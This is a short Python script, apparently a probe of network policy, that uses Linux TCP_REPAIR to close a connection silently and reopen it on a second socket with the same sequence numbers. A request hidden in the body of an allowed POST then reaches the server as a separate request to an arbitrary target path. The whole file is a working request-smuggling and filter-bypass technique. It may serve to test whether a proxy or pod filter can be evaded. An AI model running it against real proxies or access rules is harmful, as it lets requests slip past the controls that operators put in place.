# SPDX-License-Identifier: Apache-2.0
"""A connection that is taken over in its middle by a second socket, by TCP_REPAIR: what the first one has begun, a body,
is to the second one the beginning. So what it sends as the body of an allowed request is a request to the server.

    repair.py HOST PORT TARGET      `ok` and the answers, or the errno
"""
import errno
import fcntl
import socket
import struct
import sys
import time

TIMEOUT_S = 2
TCP_REPAIR, TCP_REPAIR_QUEUE, TCP_QUEUE_SEQ, TCP_REPAIR_OPTIONS = 19, 20, 21, 22
RECEIVE, SEND, TCPOPT_WINDOW, SIOCOUTQ, IP_LOCAL_PORT_RANGE = 1, 2, 3, 0x5411, 51


def option(sock, name, value):
    sock.setsockopt(socket.IPPROTO_TCP, name, value)


def sequence(sock, queue, value=None):
    option(sock, TCP_REPAIR_QUEUE, queue)
    if value is None:
        return sock.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ) & 0xffffffff
    sock.setsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ, struct.pack("I", value))


def wait_until_acked(sock):
    deadline = time.monotonic() + TIMEOUT_S
    while struct.unpack("i", fcntl.ioctl(sock, SIOCOUTQ, b"\0" * 4))[0]:
        if time.monotonic() > deadline:
            raise socket.timeout


def take_over(first):
    own, peer = first.getsockname(), first.getpeername()
    option(first, TCP_REPAIR, 1)
    numbers = {queue: sequence(first, queue) for queue in (SEND, RECEIVE)}
    scales = first.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[6]
    first.close()  # in this state nobody is told
    second = socket.socket(first.family)
    # Its port without a bind, which the pod's rules might not allow.
    second.setsockopt(socket.IPPROTO_IP, IP_LOCAL_PORT_RANGE, struct.pack("HH", own[1], own[1]))
    option(second, TCP_REPAIR, 1)
    for queue, number in numbers.items():
        sequence(second, queue, number)
    second.connect(peer)
    # Without the scale of the first one's window there would be room for a few bytes.
    second.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_OPTIONS,
                      struct.pack("II", TCPOPT_WINDOW, scales & 15 | scales >> 4 << 16))
    option(second, TCP_REPAIR, 0)
    second.settimeout(TIMEOUT_S)
    return second


def main(host, port, target):
    hidden = ("GET %s HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n" % target).encode()
    inner = b"POST /post HTTP/1.1\r\nHost: h\r\nContent-Length: %d\r\n\r\n" % len(hidden)
    try:
        sock = socket.create_connection((host, int(port)), timeout=TIMEOUT_S)
        sock.sendall(b"POST /post HTTP/1.1\r\nHost: h\r\nContent-Length: %d\r\n\r\n" % len(inner))
        wait_until_acked(sock)
        sock = take_over(sock)
        sock.sendall(inner + hidden)
        data = b""
        while data.count(b"HTTP/1.1 200") < 2:
            got = sock.recv(65536)
            if not got:
                break
            data += got
        return "ok %d" % data.count(b"HTTP/1.1 200")
    except socket.timeout:
        return "TIMEOUT"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))


print(main(*sys.argv[1:]))
